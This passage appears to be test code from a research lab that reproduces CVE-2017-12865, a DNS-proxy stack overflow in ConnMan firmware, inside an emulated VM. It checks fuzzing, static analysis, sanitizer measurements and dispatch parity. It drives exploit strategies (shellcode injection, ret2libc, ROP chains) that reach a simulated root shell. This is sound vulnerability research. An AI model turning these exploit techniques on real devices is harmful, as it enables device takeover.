            // One forge per cell; the second seed forces the fork to
            // re-slide (fresh ASLR draw on top of the restore).
            let mut forge = fw.forge(protections, BASE_SEED);
            for seed in [BASE_SEED, BASE_SEED + 1] {
                let mut prints: Vec<(&str, String)> = Vec::new();
                for snapshot in [false, true] {
                    for blocks in [true, false] {
                        let mode = match (snapshot, blocks) {
                            (false, true) => "fresh/block",
                            (false, false) => "fresh/insn",
                            (true, true) => "fork/block",
                            (true, false) => "fork/insn",
                        };
                        let fingerprint = if snapshot {
                            let daemon = forge.fork(seed);
                            daemon.set_sanitizer(sanitize);
                            daemon.machine_mut().set_block_dispatch_enabled(blocks);
                            let out = deliver_response_print(daemon, &labels);
                            daemon.machine_mut().set_block_dispatch_enabled(true);
                            out
                        } else {
                            let mut daemon = fw.boot(protections, seed);
                            daemon.set_sanitizer(sanitize);
                            daemon.machine_mut().set_block_dispatch_enabled(blocks);
                            deliver_response_print(&mut daemon, &labels)
                        };
                        prints.push((mode, fingerprint));
                    }
                }
                let (ref_mode, reference) = &prints[0];
                for (mode, fingerprint) in &prints[1..] {
                    assert_eq!(
                        fingerprint,
                        reference,
                        "{arch}/{}/sanitize={sanitize}/seed={seed:#x}: \
                         {mode} diverged from {ref_mode}",
                        protections.label()
                    );
                }
            }
        }
    }
}

/// The acceptance metric behind `snapshot_vs_reboot`: forking a booted
/// snapshot must execute at least 5x fewer instructions per E8-style
/// trial than booting from scratch (instruction counts, not wall time,
/// so a loaded 1-CPU container cannot mask a regression).
#[test]
fn fork_amortizes_at_least_5x_instructions_per_trial() {
    let fw = connman_lab::Firmware::build(FirmwareKind::OpenElec, Arch::X86);
    let protections = Protections::full();
    let labels: Vec<Vec<u8>> = vec![0x41u8; 1300].chunks(63).map(<[u8]>::to_vec).collect();
    const TRIALS: u64 = 8;

    let mut fresh_insns = 0u64;
    for seed in 0..TRIALS {
        let mut daemon = fw.boot(protections, 0x5EED_0000 + seed);
        deliver_labels(&mut daemon, labels.clone());
        fresh_insns += daemon.machine().insn_count();
    }

    let mut forge = fw.forge(protections, 0x5EED_0000);
    let mut forked_insns = 0u64;
    for seed in 0..TRIALS {
        let daemon = forge.fork(0x5EED_0000 + seed);
        let before = daemon.machine().insn_count();
        deliver_labels(daemon, labels.clone());
        forked_insns += daemon.machine().insn_count() - before;
    }

    assert!(
        fresh_insns >= 5 * forked_insns.max(1),
        "fresh {fresh_insns} insns vs forked {forked_insns} insns over {TRIALS} trials"
    );
}

/// Delivers the payload and fingerprints everything the harness
/// observes: the proxy outcome (faults carry full register/memory
/// context in their `Debug` form) and the machine's event stream.
fn deliver_response_print(daemon: &mut connman_lab::connman::Daemon, labels: &[Vec<u8>]) -> String {
    let outcome = deliver_labels(daemon, labels.to_vec());
    format!("{outcome:?}\n{:?}", daemon.machine().events())
}
