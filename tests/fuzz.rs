//! End-to-end fuzzing campaigns: the acceptance criteria for the
//! coverage-guided rediscovery of CVE-2017-12865.

use connman_lab::fuzz::{fuzz, FuzzConfig};
use connman_lab::vm::Fault;
use connman_lab::{Arch, FirmwareKind};

const SMOKE_SEED: u64 = 0x5EED;
const SMOKE_BUDGET: u64 = 1500;

fn campaign(kind: FirmwareKind, arch: Arch) -> connman_lab::fuzz::FuzzReport {
    fuzz(&FuzzConfig::new(kind, arch, SMOKE_SEED, SMOKE_BUDGET, 2))
}

#[test]
fn rediscovers_the_overflow_on_x86() {
    let report = campaign(FirmwareKind::OpenElec, Arch::X86);
    assert!(
        report.found_overflow(),
        "no redzone crash on x86; keys: {:?}",
        report.crash_keys()
    );
    assert_eq!(report.total_execs(), SMOKE_BUDGET);
}

#[test]
fn rediscovers_the_overflow_on_arm() {
    let report = campaign(FirmwareKind::OpenElec, Arch::Armv7);
    assert!(
        report.found_overflow(),
        "no redzone crash on ARM; keys: {:?}",
        report.crash_keys()
    );
}

#[test]
fn rediscovers_the_overflow_on_riscv() {
    let report = campaign(FirmwareKind::OpenElec, Arch::Riscv);
    assert!(
        report.found_overflow(),
        "no redzone crash on RISC-V; keys: {:?}",
        report.crash_keys()
    );
}

#[test]
fn patched_firmware_yields_zero_crashes_on_all_isas() {
    for arch in Arch::ALL {
        let report = campaign(FirmwareKind::Patched, arch);
        assert!(
            report.crashes.is_empty(),
            "patched 1.35 crashed on {arch}: {:?}",
            report.crash_keys()
        );
        assert_eq!(report.total_execs(), SMOKE_BUDGET, "budget still spent");
    }
}

#[test]
fn same_seed_reruns_are_byte_identical() {
    let cfg = FuzzConfig::new(FirmwareKind::OpenElec, Arch::X86, 0xFEED, 600, 3);
    let a = fuzz(&cfg);
    let b = fuzz(&cfg);
    // Identical stats document, crash set, and corpus — including
    // admission order, which the report encodes positionally.
    assert_eq!(a.stats_json(), b.stats_json());
    assert_eq!(a.crash_keys(), b.crash_keys());
    assert_eq!(a.corpus, b.corpus);
    assert_eq!(a, b);
}

#[test]
fn minimized_reproducers_still_crash_a_fresh_daemon() {
    use connman_lab::connman::{ProxyOutcome, Resolution};
    use connman_lab::dns::{Name, RecordType};
    use connman_lab::firmware::Firmware;
    use connman_lab::Protections;

    let report = campaign(FirmwareKind::OpenElec, Arch::X86);
    let redzone: Vec<_> = report
        .crashes
        .iter()
        .filter(|c| c.key.starts_with("redzone-"))
        .collect();
    assert!(!redzone.is_empty());
    for crash in redzone {
        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::X86);
        let mut daemon = fw.boot(Protections::none(), SMOKE_SEED);
        daemon.set_sanitizer(true);
        let name = Name::parse("iot.example.com").unwrap();
        let Resolution::Query(_) = daemon.resolve(&name, RecordType::A) else {
            panic!("cold cache");
        };
        match daemon.deliver_response(&crash.input) {
            ProxyOutcome::Crashed(report) => {
                assert!(
                    matches!(report.fault, Fault::RedzoneViolation { .. }),
                    "minimized input faults differently: {}",
                    report.fault
                );
            }
            other => panic!("minimized reproducer no longer crashes: {other}"),
        }
    }
}

#[test]
fn coverage_off_campaign_still_runs_but_admits_blind() {
    let mut cfg = FuzzConfig::new(FirmwareKind::OpenElec, Arch::X86, SMOKE_SEED, 300, 1);
    cfg.coverage = false;
    let report = fuzz(&cfg);
    assert_eq!(report.total_execs(), 300);
    // No coverage signal → no novelty → corpus stays at the seeds.
    assert_eq!(report.workers[0].edges, 0);
}
