//! Differential static↔dynamic exploitability oracle.
//!
//! The tentpole claim of the static layer: its *predictions* — how far
//! a tainted write can run, how many bytes separate the buffer from the
//! saved return address, whether a canary would be clobbered — must
//! match what the instrumented VM *measures* when the real exploits
//! fire. Every cell of the paper's matrix ({x86, ARM, RISC-V} × {none,
//! W⊕X, W⊕X+ASLR}) is checked byte-for-byte against the sanitizer's
//! redzone report and the exploit outcome; the patched 1.35 firmware
//! must be statically quiet on all three ISAs.

use connman_lab::analysis;
use connman_lab::exploit::{
    ArmGadgetExeclp, BufferImage, CodeInjection, Ret2Libc, RiscvGadgetSystem, RopMemcpyChain,
};
use connman_lab::vm::Fault;
use connman_lab::{
    Arch, AttackOutcome, ExploitStrategy, Firmware, FirmwareKind, Lab, Protections, ProxyOutcome,
};

fn matrix() -> Vec<(Arch, Protections)> {
    let mut cells = Vec::new();
    for arch in Arch::ALL {
        for prot in [
            Protections::none(),
            Protections::wxorx(),
            Protections::full(),
        ] {
            cells.push((arch, prot));
        }
    }
    cells
}

fn strategy_for(arch: Arch, prot: &Protections) -> Box<dyn ExploitStrategy> {
    if prot.aslr.enabled {
        Box::new(RopMemcpyChain::new(arch))
    } else if prot.wxorx {
        match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        }
    } else {
        Box::new(CodeInjection::new(arch))
    }
}

#[test]
fn static_predictions_match_sanitizer_measurements_across_the_matrix() {
    for (arch, prot) in matrix() {
        let cell = format!("{arch}/{}", prot.label());

        // Static side: one exploitable tainted write, unbounded, with a
        // fully recovered frame geometry and attack chain.
        let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
        let report = analysis::analyze(firmware.image());
        assert_eq!(report.exploitability.len(), 1, "{cell}");
        let exp = &report.exploitability[0];
        assert_eq!(exp.function, "parse_response", "{cell}");
        assert_eq!(
            exp.max_extent, None,
            "{cell}: the write length must be statically attacker-controlled"
        );
        assert!(exp.reaches_ret, "{cell}");
        assert_eq!(
            exp.call_chain,
            ["forward_dns_reply", "uncompress", "parse_response"],
            "{cell}"
        );
        let truth = connman_lab::connman::layout_for(arch);
        let predicted_ret = exp.buf_to_ret.expect("frame recovered") as usize;
        assert_eq!(
            predicted_ret, truth.ret_offset,
            "{cell}: static buf→ret distance vs ground-truth layout"
        );
        let capacity = report.findings[0].capacity;
        assert_eq!(capacity, 1024, "{cell}");

        // Dynamic side: the recon the exploits actually use, and the
        // sanitizer's byte-exact measurement of the real overflow.
        let strategy = strategy_for(arch, &prot);
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(prot);
        let info = lab.recon().unwrap_or_else(|e| panic!("{cell}: {e}"));
        assert_eq!(
            info.frame.ret_offset, predicted_ret,
            "{cell}: dynamic frame recon must agree with the static frame"
        );

        let payload = strategy
            .build(&info)
            .unwrap_or_else(|e| panic!("{cell}: {e}"));
        let labels = payload.to_labels().expect("labelizable payload");
        let written = BufferImage::decompress(&labels).len() as u32 + 1;
        assert!(
            written as usize > predicted_ret,
            "{cell}: a ret-hijacking payload must cover the predicted distance"
        );

        let run = lab
            .with_sanitizer(true)
            .run_exploit(strategy.as_ref())
            .unwrap_or_else(|e| panic!("{cell}: {e}"));
        let ProxyOutcome::Crashed(fault_report) = &run.proxy_outcome else {
            panic!("{cell}: sanitizer must crash, got {}", run.proxy_outcome);
        };
        let Fault::RedzoneViolation {
            capacity: measured_cap,
            extent,
            ..
        } = fault_report.fault
        else {
            panic!(
                "{cell}: expected redzone violation, got {}",
                fault_report.fault
            );
        };
        assert_eq!(
            measured_cap, capacity,
            "{cell}: static buffer capacity vs sanitizer"
        );
        assert_eq!(
            extent,
            written - capacity,
            "{cell}: static write model vs sanitizer extent, byte-exact"
        );
    }
}

#[test]
fn canary_clobber_prediction_matches_exploit_outcomes() {
    for arch in Arch::ALL {
        let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
        let report = analysis::analyze(firmware.image());
        let exp = &report.exploitability[0];
        assert!(
            exp.clobbers_canary,
            "{arch}: a contiguous overwrite cannot skip a canary slot"
        );

        // Prediction: with a canary the hijack dies before returning;
        // without one the same payload pops a shell.
        let strategy = CodeInjection::new(arch);
        let guarded = Lab::new(FirmwareKind::OpenElec, arch)
            .with_protections(Protections::none().with_canary())
            .run_exploit(&strategy)
            .unwrap_or_else(|e| panic!("{arch}: {e}"));
        assert_ne!(guarded.outcome, AttackOutcome::RootShell, "{arch}");
        let ProxyOutcome::Crashed(fault_report) = &guarded.proxy_outcome else {
            panic!("{arch}: canary must abort, got {}", guarded.proxy_outcome);
        };
        assert!(
            matches!(fault_report.fault, Fault::CanarySmashed { .. }),
            "{arch}: got {}",
            fault_report.fault
        );

        let open = Lab::new(FirmwareKind::OpenElec, arch)
            .with_protections(Protections::none())
            .run_exploit(&strategy)
            .unwrap_or_else(|e| panic!("{arch}: {e}"));
        assert_eq!(open.outcome, AttackOutcome::RootShell, "{arch}");
    }
}

#[test]
fn patched_firmware_is_statically_quiet_on_all_isas() {
    for arch in Arch::ALL {
        let patched = Firmware::build(FirmwareKind::Patched, arch);
        let report = analysis::analyze(patched.image());
        assert!(report.clean(), "{arch}: {:?}", report.findings);
        assert!(
            report.exploitability.is_empty(),
            "{arch}: {:?}",
            report.exploitability
        );
        // The bounded copy is still *seen* — the value-set layer proves
        // it stops below the return slot rather than not modelling it.
        let cfg = analysis::cfg::recover(patched.image());
        let sources =
            analysis::taint::effective_sources(&cfg, &analysis::taint::TaintConfig::default());
        let value_sets = analysis::vsa::vsa_pass(&cfg, patched.image(), &sources);
        let vsa = value_sets
            .iter()
            .find(|v| v.function == "parse_response")
            .expect("parse_response analysed");
        let bounded = vsa
            .tainted_writes()
            .all(|w| w.extent.is_some() && w.end().unwrap() < vsa.ret_slot.unwrap());
        assert!(bounded, "{arch}: patched copy must be proven bounded");
    }
}
