//! Differential suite for the threaded-code IR dispatcher: lowering hot
//! blocks to superinstructions is a pure throughput lever. For every
//! cell of the paper's exploit matrix — with the shadow-memory
//! sanitizer both on and off — and for ISA-level programs that exercise
//! every lowered op shape, {IR, fused-block, per-instruction} dispatch
//! must produce byte-identical outcomes, fault details, event streams
//! and instruction counts, including when the step budget expires in
//! the middle of a lowered block or a folded ALU run.

use cml_image::{Arch, Perms, SectionKind};
use cml_vm::x86::Asm;
use cml_vm::{arm, riscv, Machine, RunOutcome, X86Reg};
use connman_lab::exploit::target::deliver_labels;
use connman_lab::exploit::{
    ArmGadgetExeclp, CodeInjection, ExploitStrategy, Ret2Libc, RiscvGadgetSystem,
};
use connman_lab::{FirmwareKind, Lab, Protections};

/// The three dispatch tiers under test: threaded-code IR, fused basic
/// blocks with IR pinned off, and per-instruction stepping.
const MODES: [(&str, bool, bool); 3] = [
    ("ir", true, true),
    ("block", false, true),
    ("insn", false, false),
];

fn set_mode(m: &mut Machine, ir_on: bool, blocks_on: bool) {
    m.set_ir_dispatch_enabled(ir_on);
    m.set_block_dispatch_enabled(blocks_on);
}

/// The nine PoC cells of §III: protection level + the matched technique.
fn matrix() -> Vec<(Arch, Protections, Box<dyn ExploitStrategy>)> {
    let mut cells: Vec<(Arch, Protections, Box<dyn ExploitStrategy>)> = Vec::new();
    for arch in Arch::ALL {
        cells.push((
            arch,
            Protections::none(),
            Box::new(CodeInjection::new(arch)),
        ));
        let wx: Box<dyn ExploitStrategy> = match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        };
        cells.push((arch, Protections::wxorx(), wx));
        cells.push((
            arch,
            Protections::full(),
            Box::new(connman_lab::exploit::RopMemcpyChain::new(arch)),
        ));
    }
    cells
}

#[test]
fn ir_dispatch_is_invisible_across_the_exploit_matrix() {
    const SEED: u64 = 0x16D1;
    for (arch, protections, strategy) in matrix() {
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
        let target = lab.recon().expect("recon succeeds on vulnerable build");
        let payload = strategy.build(&target).expect("payload builds");
        let labels = payload.to_labels().expect("labelizes");
        let fw = lab.firmware();

        for sanitize in [false, true] {
            let mut prints: Vec<(&str, String)> = Vec::new();
            for (mode, ir_on, blocks_on) in MODES {
                let mut daemon = fw.boot(protections, SEED);
                daemon.set_sanitizer(sanitize);
                set_mode(daemon.machine_mut(), ir_on, blocks_on);
                let outcome = deliver_labels(&mut daemon, labels.clone());
                let m = daemon.machine();
                prints.push((
                    mode,
                    format!("{outcome:?}\n{:?}\n{}", m.events(), m.insn_count()),
                ));
            }
            let (ref_mode, reference) = &prints[0];
            for (mode, fingerprint) in &prints[1..] {
                assert_eq!(
                    fingerprint,
                    reference,
                    "{arch}/{}/sanitize={sanitize}: {mode} diverged from {ref_mode}",
                    protections.label()
                );
            }
        }
    }
}

fn boot(arch: Arch, code: &[u8]) -> Machine {
    let mut m = Machine::new(arch);
    m.mem_mut()
        .map(".text", Some(SectionKind::Text), 0x1000, 0x1000, Perms::RX);
    m.mem_mut()
        .map("stack", Some(SectionKind::Stack), 0x8000, 0x1000, Perms::RW);
    m.mem_mut().poke(0x1000, code).unwrap();
    m.regs_mut().set_pc(0x1000);
    m.regs_mut().set_sp(0x8800);
    m
}

/// An x86 program that hits every lowered op shape: immediate and
/// register moves, a foldable `inc` run, register-register ALU, shifts,
/// `lea`, absolute and based loads/stores, the prechecked push/pop
/// window, `cmp`+`jnz` fusion and an unconditional jump — looped so IR
/// chaining and the self-loop fast path both fire.
fn x86_program() -> Vec<u8> {
    let head = Asm::new().mov_r_imm(X86Reg::Ecx, 3);
    let loop_top = head.len() as i32;
    let body = head
        .push_r(X86Reg::Ecx)
        .push_imm(0x1111_2222)
        .mov_r_imm(X86Reg::Eax, 0x40)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .add_r_imm8(X86Reg::Eax, 5)
        .sub_r_imm8(X86Reg::Eax, 2)
        .shl_r_imm8(X86Reg::Eax, 3)
        .shr_r_imm8(X86Reg::Eax, 1)
        .mov_r_imm(X86Reg::Ebx, 0x8400)
        .mov_mem_r(X86Reg::Ebx, 8, X86Reg::Eax)
        .mov_r_mem(X86Reg::Edx, X86Reg::Ebx, 8)
        .mov_r_abs(X86Reg::Esi, 0x8408)
        .lea(X86Reg::Edi, X86Reg::Ebx, 0x10)
        .xor_rr(X86Reg::Edx, X86Reg::Eax)
        .and_rr(X86Reg::Edx, X86Reg::Esi)
        .or_rr(X86Reg::Edx, X86Reg::Edi)
        .test_rr(X86Reg::Edx, X86Reg::Edx)
        .cmp_rr(X86Reg::Eax, X86Reg::Ebx)
        .mov_r8_imm(X86Reg::Eax, 0x7F)
        .pop_r(X86Reg::Edx)
        .pop_r(X86Reg::Ecx)
        .dec_r(X86Reg::Ecx);
    // jnz is 2 bytes; rel8 is relative to the pc after it.
    let rel = loop_top - (body.len() as i32 + 2);
    body.jnz_rel8(i8::try_from(rel).expect("loop body fits rel8"))
        .jmp_rel8(0)
        .xor_rr(X86Reg::Eax, X86Reg::Eax)
        .mov_r8_imm(X86Reg::Eax, 1)
        .mov_r_imm(X86Reg::Ebx, 42)
        .int80()
        .finish()
}

/// The ARM counterpart: immediate/negated/register moves, pc-relative
/// folds, add/sub/bitwise immediates, shifts, `cmp`+`bne` fusion,
/// word/byte loads and stores, push/pop and an unconditional branch.
fn arm_program() -> Vec<u8> {
    let head = arm::Asm::new().mov_imm(2, 3);
    let loop_top = head.len() as i32;
    let body = head
        .mov_imm(0, 0x40)
        .add_imm(0, 0, 4)
        .sub_imm(0, 0, 1)
        .orr_imm(1, 0, 0x10)
        .and_imm(1, 1, 0xFF)
        .eor_imm(1, 1, 3)
        .lsl_imm(3, 1, 2)
        .mvn_imm(4, 0)
        .add_imm(5, 15, 4) // pc-relative, folds to a constant
        .mov_reg(6, 13)
        .str(0, 13, -8)
        .ldr(8, 13, -8)
        .strb(1, 13, -12)
        .ldrb(9, 13, -12)
        .push(&[0, 1])
        .pop(&[0, 1])
        .sub_imm(2, 2, 1)
        .cmp_imm(2, 0);
    // The branch target is pc + 8 + offset.
    let rel = loop_top - (body.len() as i32 + 8);
    body.bne(rel)
        .b(-4) // branch to the very next word
        .mov_imm(0, 9)
        .mov_imm(7, 1)
        .svc0()
        .finish()
}

/// The RISC-V counterpart, mixing 4-byte and compressed encodings so
/// the 2-byte-granular pc crosses both strides inside one block:
/// immediate materialisation (`lui`/`auipc`/`c.li`), ALU immediates and
/// register forms, shifts, sp-relative compressed loads/stores beside
/// the full-width ones, and a counted `bne` loop.
fn riscv_program() -> Vec<u8> {
    let head = riscv::Asm::new().c_li(14, 3);
    let loop_top = head.len() as i32;
    let body = head
        .c_li(10, 0x10)
        .addi(10, 10, 4)
        .c_addi(10, 1)
        .andi(11, 10, 0xFF)
        .ori(11, 11, 0x10)
        .xori(11, 11, 3)
        .slli(12, 11, 2)
        .srli(12, 12, 1)
        .c_slli(12, 1)
        .lui(13, 0x12000)
        .auipc(15, 0x1000)
        .add(12, 12, 11)
        .sub(12, 12, 10)
        .c_mv(5, 12)
        .c_add(5, 11)
        .sw(10, 2, -8)
        .lw(6, 2, -8)
        .sb(11, 2, -12)
        .lbu(7, 2, -12)
        .c_swsp(12, 0)
        .c_lwsp(28, 0)
        .c_addi4spn(9, 8)
        .addi(14, 14, -1);
    // Branch offsets are relative to the branch instruction itself.
    let rel = loop_top - body.len() as i32;
    body.bne(14, 0, rel)
        .jal(0, 4) // jump to the very next word
        .c_li(10, 9)
        .addi(17, 0, 93)
        .ecall()
        .finish()
}

/// x86/ARM/RISC-V programs agree across all three dispatch tiers, for
/// every step budget from 1 up to past program exit — so budget
/// exhaustion lands on every possible op boundary, including inside
/// folded `AddImm` runs and between the halves of fused
/// `CmpBr`/`DecBr` ops.
#[test]
fn step_budget_parity_at_every_boundary() {
    for (arch, code) in [
        (Arch::X86, x86_program()),
        (Arch::Armv7, arm_program()),
        (Arch::Riscv, riscv_program()),
    ] {
        // Establish the total instruction count from per-insn dispatch.
        let mut full = boot(arch, &code);
        set_mode(&mut full, false, false);
        let outcome = full.run(100_000);
        assert_eq!(
            outcome,
            RunOutcome::Exited(if arch == Arch::X86 { 42 } else { 9 }),
            "{arch}: reference program must exit cleanly"
        );
        let total = full.insn_count();

        for budget in 1..=total + 2 {
            let mut prints: Vec<(&str, String)> = Vec::new();
            for (mode, ir_on, blocks_on) in MODES {
                let mut m = boot(arch, &code);
                set_mode(&mut m, ir_on, blocks_on);
                let out = m.run(budget);
                prints.push((
                    mode,
                    format!(
                        "{out:?}\npc={:#x} insns={} regs={:?}\n{:?}",
                        m.regs().pc(),
                        m.insn_count(),
                        m.regs(),
                        m.events()
                    ),
                ));
            }
            let (ref_mode, reference) = &prints[0];
            for (mode, fingerprint) in &prints[1..] {
                assert_eq!(
                    fingerprint, reference,
                    "{arch}/budget={budget}: {mode} diverged from {ref_mode}"
                );
            }
        }
    }
}

/// Faulting mid-block must leave identical fault details and pc across
/// the tiers: the store to unmapped memory sits behind a folded run so
/// the IR reaches it mid-block.
#[test]
fn mid_block_fault_parity() {
    let code = Asm::new()
        .mov_r_imm(X86Reg::Ebx, 0x4000_0000) // unmapped
        .inc_r(X86Reg::Eax)
        .inc_r(X86Reg::Eax)
        .mov_mem_r(X86Reg::Ebx, 0, X86Reg::Eax)
        .nop()
        .int80()
        .finish();
    let mut prints: Vec<(&str, String)> = Vec::new();
    for (mode, ir_on, blocks_on) in MODES {
        let mut m = boot(Arch::X86, &code);
        set_mode(&mut m, ir_on, blocks_on);
        let out = m.run(1_000);
        assert!(out.is_crash(), "{mode}: store to unmapped memory faults");
        prints.push((
            mode,
            format!(
                "{out:?}\npc={:#x} insns={}\n{:?}",
                m.regs().pc(),
                m.insn_count(),
                m.events()
            ),
        ));
    }
    let (ref_mode, reference) = &prints[0];
    for (mode, fingerprint) in &prints[1..] {
        assert_eq!(fingerprint, reference, "{mode} diverged from {ref_mode}");
    }
}

/// Mutating `.text` after a snapshot restore must orphan the lowered IR
/// blocks (generation bump), on top of the block/decode caches: the run
/// after the poke executes the *mutated* exit code, and a second
/// restore rewinds the mutation itself.
#[test]
fn text_mutation_after_snapshot_orphans_ir_blocks() {
    let code = x86_program();
    // The imm32 of `mov ebx, 42` sits one byte into the instruction,
    // 6 bytes before the end (int80 is 2, the mov is 5).
    let imm_off = (code.len() - 2 - 4) as u32;
    let mut m = boot(Arch::X86, &code);
    let snap = m.snapshot();
    assert_eq!(m.run(100_000), RunOutcome::Exited(42), "warms the IR cache");

    m.restore(&snap);
    m.mem_mut().poke(0x1000 + imm_off, &[43]).unwrap();
    assert_eq!(
        m.run(100_000),
        RunOutcome::Exited(43),
        "stale IR must not serve the old exit code"
    );

    m.restore(&snap);
    assert_eq!(
        m.run(100_000),
        RunOutcome::Exited(42),
        "restore must undo the .text write"
    );
}

/// IR dispatch and fused-block dispatch note coverage identically (one
/// premixed edge per block entry): the maps must be byte-for-byte the
/// same, on all three ISAs.
#[test]
fn coverage_map_identical_ir_vs_block() {
    for (arch, code) in [
        (Arch::X86, x86_program()),
        (Arch::Armv7, arm_program()),
        (Arch::Riscv, riscv_program()),
    ] {
        let run_mode = |ir_on: bool| {
            let mut m = boot(arch, &code);
            set_mode(&mut m, ir_on, true);
            m.set_coverage_enabled(true);
            let _ = m.run(100_000);
            m.coverage().unwrap().bytes().to_vec()
        };
        assert_eq!(
            run_mode(true),
            run_mode(false),
            "{arch}: IR coverage diverged from block coverage"
        );
    }
}
