//! Integration: the static analyzer and the VM shadow-memory sanitizer
//! across the paper's full exploit matrix (x86/ARM/RISC-V ×
//! none/W⊕X/W⊕X+ASLR).
//!
//! The analyzer must flag the vulnerable firmware and stay quiet on the
//! patched one in every cell; the sanitizer must pinpoint every matrix
//! payload with the exact overflow extent; and switching the sanitizer
//! off must leave the exploits fully functional.

use connman_lab::analysis::{self, json};
use connman_lab::exploit::{
    ArmGadgetExeclp, BufferImage, CodeInjection, Ret2Libc, RiscvGadgetSystem, RopMemcpyChain,
};
use connman_lab::vm::Fault;
use connman_lab::{
    Arch, AttackOutcome, ExploitStrategy, Firmware, FirmwareKind, Lab, Protections, ProxyOutcome,
};

fn matrix() -> Vec<(Arch, Protections)> {
    let mut cells = Vec::new();
    for arch in Arch::ALL {
        for prot in [
            Protections::none(),
            Protections::wxorx(),
            Protections::full(),
        ] {
            cells.push((arch, prot));
        }
    }
    cells
}

/// The paper's technique for each protection level (same pairing the
/// CLI's `auto` strategy uses).
fn strategy_for(arch: Arch, prot: &Protections) -> Box<dyn ExploitStrategy> {
    if prot.aslr.enabled {
        Box::new(RopMemcpyChain::new(arch))
    } else if prot.wxorx {
        match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        }
    } else {
        Box::new(CodeInjection::new(arch))
    }
}

#[test]
fn analyzer_flags_vulnerable_and_passes_patched_in_every_cell() {
    for (arch, prot) in matrix() {
        let cell = format!("{arch}/{}", prot.label());

        let vulnerable = Firmware::build(FirmwareKind::OpenElec, arch);
        let report = analysis::analyze(vulnerable.image());
        assert!(!report.clean(), "{cell}: vulnerable image must be flagged");
        assert_eq!(report.findings.len(), 1, "{cell}");
        let f = &report.findings[0];
        assert_eq!(f.function, "parse_response", "{cell}");
        assert_eq!(f.capacity, 1024, "{cell}");
        assert!(f.source.contains("DNS response"), "{cell}");
        assert!(f.sink.contains("1024-byte"), "{cell}");

        let patched = Firmware::build(FirmwareKind::Patched, arch);
        let clean = analysis::analyze(patched.image());
        assert!(
            clean.clean(),
            "{cell}: patched image must pass: {:?}",
            clean.findings
        );
    }
}

#[test]
fn sanitizer_pinpoints_every_matrix_payload_with_exact_extent() {
    for (arch, prot) in matrix() {
        let cell = format!("{arch}/{}", prot.label());
        let strategy = strategy_for(arch, &prot);

        // Predict the overflow extent from the payload itself: the
        // daemon writes every decompressed label byte plus the root
        // terminator into the 1024-byte name buffer.
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(prot);
        let info = lab.recon().expect("recon");
        let payload = strategy
            .build(&info)
            .unwrap_or_else(|e| panic!("{cell}: {e}"));
        let labels = payload.to_labels().expect("labelizable payload");
        let written = BufferImage::decompress(&labels).len() as u32 + 1;
        assert!(
            written > 1024,
            "{cell}: matrix payloads overflow the buffer"
        );

        let report = lab
            .with_sanitizer(true)
            .run_exploit(strategy.as_ref())
            .unwrap_or_else(|e| panic!("{cell}: {e}"));
        let ProxyOutcome::Crashed(fault_report) = &report.proxy_outcome else {
            panic!(
                "{cell}: sanitizer must crash the daemon, got {}",
                report.proxy_outcome
            );
        };
        let Fault::RedzoneViolation {
            capacity, extent, ..
        } = fault_report.fault
        else {
            panic!(
                "{cell}: expected a redzone violation, got {}",
                fault_report.fault
            );
        };
        assert_eq!(capacity, 1024, "{cell}");
        assert_eq!(extent, written - 1024, "{cell}: imprecise overflow extent");
        assert_ne!(
            report.outcome,
            AttackOutcome::RootShell,
            "{cell}: the diverted overflow must not still pop a shell"
        );
    }
}

#[test]
fn exploits_still_succeed_with_sanitizer_off() {
    for (arch, prot) in matrix() {
        let cell = format!("{arch}/{}", prot.label());
        let strategy = strategy_for(arch, &prot);
        let outcome = Lab::new(FirmwareKind::OpenElec, arch)
            .with_protections(prot)
            .run_exploit(strategy.as_ref())
            .unwrap_or_else(|e| panic!("{cell}: {e}"))
            .outcome;
        assert_eq!(outcome, AttackOutcome::RootShell, "{cell}");
    }
}

#[test]
fn report_json_schema_round_trips() {
    for arch in Arch::ALL {
        let firmware = Firmware::build(FirmwareKind::OpenElec, arch);
        let report = analysis::analyze(firmware.image());
        let text = report.to_json().to_string();
        let doc = json::parse(&text).expect("emitted JSON parses");

        assert_eq!(
            doc.get("schema").and_then(json::Value::as_str),
            Some(analysis::SCHEMA)
        );
        assert_eq!(doc.get("clean").and_then(json::Value::as_bool), Some(false));
        let findings = doc.get("findings").and_then(json::Value::as_arr).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(
            findings[0].get("capacity").and_then(json::Value::as_num),
            Some(1024.0)
        );
        let audit = doc.get("audit").expect("audit object");
        let wx = audit
            .get("wx_violations")
            .and_then(json::Value::as_arr)
            .unwrap();
        assert!(
            wx.iter().any(|v| v.as_str() == Some("[stack]")),
            "{arch}: executable stack must be audited"
        );
        let sections = audit.get("sections").and_then(json::Value::as_arr).unwrap();
        assert!(!sections.is_empty());
        assert!(
            audit
                .get("gadget_total")
                .and_then(json::Value::as_num)
                .unwrap()
                > 0.0,
            "{arch}"
        );

        // v2 sections: frame geometry, call summaries, exploitability.
        let frames = doc.get("frames").and_then(json::Value::as_arr).unwrap();
        let pr = frames
            .iter()
            .find(|f| f.get("function").and_then(json::Value::as_str) == Some("parse_response"))
            .unwrap_or_else(|| panic!("{arch}: parse_response frame"));
        let truth = connman_lab::connman::layout_for(arch);
        assert_eq!(
            pr.get("buf_to_ret").and_then(json::Value::as_num),
            Some(truth.ret_offset as f64),
            "{arch}: recovered frame distance must match ground truth"
        );

        let graph = doc.get("callgraph").expect("callgraph object");
        assert!(
            graph.get("edges").and_then(json::Value::as_num).unwrap() > 0.0,
            "{arch}"
        );

        let exp = doc
            .get("exploitability")
            .and_then(json::Value::as_arr)
            .unwrap();
